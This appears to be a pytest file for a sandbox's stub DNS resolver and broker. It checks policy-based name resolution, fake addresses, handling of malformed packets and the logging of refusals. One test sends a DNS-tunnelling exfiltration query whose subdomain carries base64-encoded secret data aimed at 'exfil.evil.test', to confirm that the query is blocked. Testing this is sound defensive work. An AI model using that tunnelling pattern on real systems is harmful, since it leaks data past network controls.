"""The stub resolver's wire format and decisions (policies compiled from text), its fake
addresses, the listeners a capable namespace gets, and the broker answering DNS on real
loopback sockets.  The sandboxed runs are in ``test_netstub_sandbox.py``.
"""

from __future__ import annotations

import socket
import struct
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from stockade.compiler.pipeline import compile_policy
from stockade.runtime import netstub
from stockade.runtime.broker import Broker, ListenSpec, TableResolver
from stockade.runtime.netstub import (
    FORMERR,
    NOERROR,
    NXDOMAIN,
    SERVFAIL,
    TYPE_A,
    TYPE_AAAA,
    DnsError,
    FakePool,
    Stub,
    build_query,
    capture_ports,
    capture_specs,
    parse_query,
    parse_reply,
)

POLICY = """\
policy "stub"
network {
    default deny
    allow github.com files.test:443
    allow *.example.test
    deny  bad.example.test
    allow 10.20.0.0/16:8080
    allow host-loopback:5432
}
"""


@pytest.fixture(scope="module")
def stub(tmp_path_factory: pytest.TempPathFactory) -> Stub:
    path = tmp_path_factory.mktemp("stub") / "stub.policy"
    path.write_text(POLICY)
    ir = compile_policy(str(path), workspace=str(path.parent), home=str(path.parent), tmpdir=str(path.parent)).ir
    return Stub(ir)


def _ask(stub: Stub, name: str, qtype: int = TYPE_A) -> tuple[int, list[tuple[int, bytes]]]:
    reply, _ = stub.answer(build_query(name, qtype, ident=0x1234))
    assert reply is not None
    ident, rcode, answers = parse_reply(reply)
    assert ident == 0x1234
    return rcode, answers


@pytest.mark.parametrize("name, rcode, because", [
    ("github.com", NOERROR, ""),
    ("GitHub.COM", NOERROR, ""),
    ("files.test", NOERROR, ""),                 # allowed at one port (443): it has an address
    ("api.example.test", NOERROR, ""),
    ("example.test", NXDOMAIN, "no rule allows it at any port; default deny at"),       # apex, not *.domain
    ("github.com.evil.test", NXDOMAIN, "no rule allows it at any port; default deny"),  # lookalike
    ("bad.example.test", NXDOMAIN, "denied by a rule; deny bad.example.test at"),
    ("evil.test", NXDOMAIN, "no rule allows it at any port"),
    ("10.20.0.5", NXDOMAIN, "an address is not a name to look up"),
    ("host-loopback", NXDOMAIN, "is not looked up"),
])
def test_names_the_policy_may_reach_get_a_fake_address(stub: Stub, name: str, rcode: int, because: str) -> None:
    got, answers = _ask(stub, name)
    assert got == rcode
    _, lookup = stub.answer(build_query(name))
    assert lookup is not None
    if rcode == NOERROR:
        ((kind, data),) = answers
        assert kind == TYPE_A and socket.inet_ntoa(data).startswith("198.1")
        assert lookup.allowed and stub.pool.name(socket.inet_ntoa(data)) == name.lower()
    else:
        assert answers == [] and not lookup.allowed
        assert because in (f"{lookup.reason}; {lookup.rule} at {lookup.where}" if lookup.rule else lookup.reason)


def test_other_types_of_a_reachable_name_have_no_data(stub: Stub) -> None:
    assert _ask(stub, "github.com", TYPE_AAAA) == (NOERROR, [])
    assert _ask(stub, "github.com", 65) == (NOERROR, [])     # HTTPS/SVCB
    assert _ask(stub, "evil.test", TYPE_AAAA) == (NXDOMAIN, [])
    assert _ask(stub, "localhost") == (NOERROR, [(TYPE_A, socket.inet_aton("127.0.0.1"))])
    assert _ask(stub, "db.localhost", TYPE_AAAA) == (NOERROR, [])


def test_fake_addresses_are_stable_distinct_and_reversible(stub: Stub) -> None:
    first = _ask(stub, "github.com")[1]
    assert _ask(stub, "GITHUB.com.")[1] == first
    other = _ask(stub, "www.example.test")[1]
    assert other != first
    address = socket.inet_ntoa(first[0][1])
    reverse = ".".join(reversed(address.split("."))) + ".in-addr.arpa"
    rcode, answers = _ask(stub, reverse, netstub.TYPE_PTR)
    assert rcode == NOERROR and answers == [(netstub.TYPE_PTR, b"\x06github\x03com\x00")]
    assert _ask(stub, "250.255.19.198.in-addr.arpa", netstub.TYPE_PTR)[0] == NXDOMAIN  # not handed out


def test_the_pool_is_bounded() -> None:
    pool = FakePool(limit=3)
    assert [pool.address(n) for n in ("a", "b", "c")] == ["198.18.0.1", "198.18.0.2", "198.18.0.3"]
    assert pool.address("d") is None and pool.address("a") == "198.18.0.1"
    assert pool.contains("198.19.255.1") and not pool.contains("198.20.0.1") and not pool.contains("::1")
    assert pool.name("198.18.0.2") == "b" and pool.name("198.18.0.9") is None and pool.name("nonsense") is None


def test_a_full_pool_is_servfail(stub: Stub) -> None:
    full = Stub(stub.ir)
    full.pool = FakePool(limit=1)
    assert _ask(full, "github.com")[0] == NOERROR
    assert _ask(full, "api.example.test")[0] == SERVFAIL


@pytest.mark.parametrize("packet, expected", [
    (b"", None),
    (b"\x00" * 11, None),
    (struct.pack("!HHHHHH", 9, 0x8180, 1, 0, 0, 0) + b"\x01a\x00\x00\x01\x00\x01", None),  # a response: never answered
    (struct.pack("!HHHHHH", 9, 0x0100, 0, 0, 0, 0), FORMERR),
    (struct.pack("!HHHHHH", 9, 0x0100, 2, 0, 0, 0) + b"\x01a\x00\x00\x01\x00\x01" * 2, FORMERR),
    (struct.pack("!HHHHHH", 9, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c\x00\x01\x00\x01", FORMERR),  # compression
    (struct.pack("!HHHHHH", 9, 0x0100, 1, 0, 0, 0) + b"\x05ab", FORMERR),                    # label past the end
    (struct.pack("!HHHHHH", 9, 0x0100, 1, 0, 0, 0) + b"\x01a\x00\x00", FORMERR),             # no class
    (struct.pack("!HHHHHH", 9, 0x0100, 1, 0, 0, 0) + (b"\x3f" + b"a" * 63) * 4 + b"\x00\x00\x01\x00\x01", FORMERR),
    (struct.pack("!HHHHHH", 9, 0x0100, 1, 1, 0, 0) + b"\x01a\x00\x00\x01\x00\x01", FORMERR),  # answers in a query
])
def test_malformed_packets_are_formerr_or_dropped(stub: Stub, packet: bytes, expected: int | None) -> None:
    reply, lookup = stub.answer(packet)
    assert lookup is None
    if expected is None:
        assert reply is None
    else:
        assert reply is not None and reply[:2] == b"\x00\x09" and reply[3] & 0xF == expected and reply[2] & 0x80


def test_a_label_with_a_dot_or_odd_bytes_is_never_a_rule_s_name(stub: Stub) -> None:
    header = struct.pack("!HHHHHH", 5, 0x0100, 1, 0, 0, 0)
    packet = header + b"\x0agithub.com\x00\x00\x01\x00\x01"  # one label "github.com"
    reply, lookup = stub.answer(packet)
    assert lookup is not None and lookup.name == "github\\046com" and not lookup.allowed
    assert reply is not None and reply[3] & 0xF == NXDOMAIN
    _, lookup = stub.answer(header + b"\x03a\x00b\x04test\x00\x00\x01\x00\x01")
    assert lookup is not None and lookup.name == "a\\000b.test" and not lookup.allowed


def test_other_classes_and_opcodes_are_refused(stub: Stub) -> None:
    chaos = build_query("version.bind", 16, qclass=3)
    reply, _ = stub.answer(chaos)
    assert reply is not None and reply[3] & 0xF == netstub.REFUSED
    notify = bytearray(build_query("github.com"))
    notify[2] |= 4 << 3
    reply, _ = stub.answer(bytes(notify))
    assert reply is not None and reply[3] & 0xF == netstub.NOTIMP


_LABEL = st.binary(min_size=1, max_size=63).filter(lambda b: b"." not in b)
_NAMES = st.lists(st.from_regex(r"[a-zA-Z0-9_-]{1,20}", fullmatch=True), min_size=1, max_size=6).map(".".join)


@settings(max_examples=300, deadline=None)
@given(name=_NAMES, qtype=st.integers(0, 65535), ident=st.integers(0, 65535))
def test_queries_round_trip(stub: Stub, name: str, qtype: int, ident: int) -> None:
    packet = build_query(name, qtype, ident)
    query = parse_query(packet)
    assert (query.name(), query.qtype, query.ident, query.qclass) == (name.lower(), qtype, ident, 1)
    reply, lookup = stub.answer(packet)
    assert reply is not None and lookup is not None
    got_ident, rcode, answers = parse_reply(reply)
    assert got_ident == ident and reply[12:12 + len(query.question)] == query.question  # the question echoed as sent
    assert rcode in (NOERROR, NXDOMAIN, netstub.REFUSED)
    assert all(kind == TYPE_A for kind, _ in answers) and len(answers) <= 1


@settings(max_examples=500, deadline=None)
@given(packet=st.binary(max_size=700))
def test_any_bytes_never_raise(stub: Stub, packet: bytes) -> None:
    reply, _ = stub.answer(packet)
    if reply is not None:
        assert reply[:2] == packet[:2] and reply[2] & 0x80 and len(reply) <= len(packet) + 16


@settings(max_examples=300, deadline=None)
@given(labels=st.lists(_LABEL, min_size=1, max_size=5), cut=st.integers(0, 400), flip=st.integers(0, 400),
       value=st.integers(0, 255))
def test_damaged_queries_never_raise(stub: Stub, labels: list[bytes], cut: int, flip: int, value: int) -> None:
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    packet = bytearray(struct.pack("!HHHHHH", 1, 0x0100, 1, 0, 0, 0) + name + b"\x00\x01\x00\x01")
    if flip < len(packet):
        packet[flip] = value
    packet = packet[:max(cut, 0)] if cut < len(packet) else packet
    try:
        query = parse_query(bytes(packet))
    except DnsError:
        query = None
    reply, lookup = stub.answer(bytes(packet))
    assert (lookup is None) == (query is None)
    if query is not None:
        assert reply is not None and len(query.question) <= 259 and all(0 < len(label) < 64 for label in query.labels)
    elif len(packet) >= 12 and not packet[2] & 0x80:
        assert reply is not None and reply[3] & 0xF == FORMERR
    else:
        assert reply is None


def test_capture_ports_and_specs() -> None:
    assert capture_ports([8443, 443, 53, 3128], [3128, 1080, 5432]) == [22, 80, 443, 8443]
    specs = capture_specs(3128, 1080, [5432], [8443], ipv6=True)
    assert ListenSpec("dns", "0.0.0.0", 53, True) in specs and ListenSpec("dns", "::", 53, False) in specs
    assert ListenSpec("proxy", "::1", 3128) in specs and ListenSpec("loopback:5432", "::1", 5432) in specs
    assert {(s.host, s.port) for s in specs if s.kind == "capture"} == {
        (host, port) for host in ("0.0.0.0", "::") for port in (22, 80, 443, 8443)}
    assert all(":" not in s.host for s in capture_specs(3128, 1080, [], [], ipv6=False))


def test_capture_adds_specs_after_the_proxy_and_loopback_ports(tmp_path: Path) -> None:
    broker = Broker(lambda: None, loopback_ports=[5432], rule_ports=[8443])  # type: ignore[arg-type,return-value]
    assert [(s.host, s.port) for s in broker.listen_specs()] == [("127.0.0.1", 3128), ("127.0.0.1", 1080),
                                                                  ("127.0.0.1", 5432)]
    attempts = broker.spec_attempts()  # with capture first, the plain listeners last
    assert attempts[-1] == broker.listen_specs()[:3] and len(attempts[0]) > 3
    broker.choose(len(attempts) - 1)
    assert not broker.capture
    broker.capture = True
    assert len(broker.listen_specs()) > 3 and broker.listen_specs()[:3] == Broker(
        lambda: None, loopback_ports=[5432]).listen_specs()  # type: ignore[arg-type,return-value]


@pytest.fixture()
def dns_broker(tmp_path: Path) -> Iterator[tuple[Broker, dict[str, socket.socket]]]:
    """A capturing broker whose 'sandbox' listeners are loopback sockets made here (the stub
    resolver's on 127.0.0.1 ports of their own; no namespace, so no capture)."""
    path = tmp_path / "stub.policy"
    path.write_text(POLICY)
    ir = compile_policy(str(path), workspace=str(tmp_path), home=str(tmp_path), tmpdir=str(tmp_path)).ir
    broker = Broker(lambda: ir, resolver=TableResolver({}), base={"command": "test"})
    broker.capture = True
    listeners = []
    for spec in broker.listen_specs():
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if spec.datagram else socket.SOCK_STREAM)
        sock.bind(("127.0.0.1", 0))
        if spec.datagram:
            netstub.want_destination(sock)
        else:
            sock.listen(8)
        listeners.append(sock)
    broker.adopt(listeners)
    broker.serve()
    assert broker.wait_ready(5)
    specs = broker.listen_specs()
    udp = next(s for s, spec in zip(listeners, specs, strict=True) if spec.kind == "dns" and spec.datagram)
    tcp = next(s for s, spec in zip(listeners, specs, strict=True) if spec.kind == "dns" and not spec.datagram)
    found = {"udp": udp.getsockname(), "tcp": tcp.getsockname()}
    try:
        yield broker, found  # type: ignore[misc]
    finally:
        broker.stop()


def test_the_broker_answers_dns_and_records_refusals(dns_broker: tuple[Broker, dict]) -> None:
    broker, where = dns_broker
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(5)
        client.connect(where["udp"])
        for packet in (b"", b"\xff" * 100, b"\x00\x01garbage"):  # first: malformed (FORMERR or nothing)
            client.send(packet)
        client.send(build_query("github.com", ident=77))
        replies = []
        while True:
            reply = client.recv(4096)
            replies.append(reply)
            if reply[:2] == (77).to_bytes(2, "big"):
                break
        assert parse_reply(replies[-1])[1] == NOERROR and parse_reply(replies[-1])[2][0][1][:2] == b"\xc6\x12"
        secret = "c2VjcmV0IGRhdGEgaW4gYSBsYWJlbA" * 2
        client.send(build_query(f"{secret}.exfil.evil.test", ident=78))
        assert parse_reply(client.recv(4096))[:2] == (78, NXDOMAIN)
    with socket.create_connection(where["tcp"], 5) as conn:
        packet = build_query("bad.example.test", ident=79)
        conn.sendall(len(packet).to_bytes(2, "big") + packet)
        size = int.from_bytes(conn.recv(2), "big")
        assert parse_reply(conn.recv(size))[:2] == (79, NXDOMAIN)
    broker.stop()
    denied = broker.blocked()
    assert [(e["protocol"], e["host"], e["rule"]) for e in denied] == [
        ("dns", f"{secret.lower()}.exfil.evil.test", "default deny"), ("dns-tcp", "bad.example.test",
                                                                       "deny bad.example.test")]
    assert broker.summary()[1].startswith("blocked: name lookup of bad.example.test (denied by a rule; deny ")


def test_a_query_with_edns_is_answered(stub: Stub) -> None:
    packet = bytearray(build_query("github.com", ident=3))
    packet[11] = 1  # one additional record: an OPT (EDNS0, 1232-byte payload), as Go and glibc send
    packet += b"\x00\x00\x29\x04\xd0\x00\x00\x00\x00\x00\x00"
    reply, lookup = stub.answer(bytes(packet))
    assert reply is not None and lookup is not None and lookup.address is not None
    assert parse_reply(reply)[:2] == (3, NOERROR)


def test_capture_routes_are_never_added_to_a_namespace_with_interfaces(tmp_path: Path) -> None:
    interfaces = Path("/proc/thread-self/net/dev").read_text()
    if interfaces.count(":") <= 1:
        pytest.skip("this test runs in a namespace with only a loopback")
    with pytest.raises(OSError, match="not a sandbox's network namespace"):
        netstub.add_local_routes([socket.AF_INET])


def test_a_used_up_pool_is_said_at_the_end(dns_broker: tuple[Broker, dict]) -> None:
    broker, where = dns_broker
    stub = Stub(broker._judge().ir)  # type: ignore[union-attr]
    stub.pool = FakePool(limit=1)
    broker.stub = stub
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(5)
        client.connect(where["udp"])
        for ident, name in enumerate(("github.com", "api.example.test", "www.example.test")):
            client.send(build_query(name, ident=ident))
            assert parse_reply(client.recv(4096))[:2] == (ident, NOERROR if ident == 0 else SERVFAIL)
    assert broker.problems == ["the stub resolver could not answer `api.example.test` and later names: the stub's "
                               "fake addresses are used up"]
    assert broker.blocked() == []
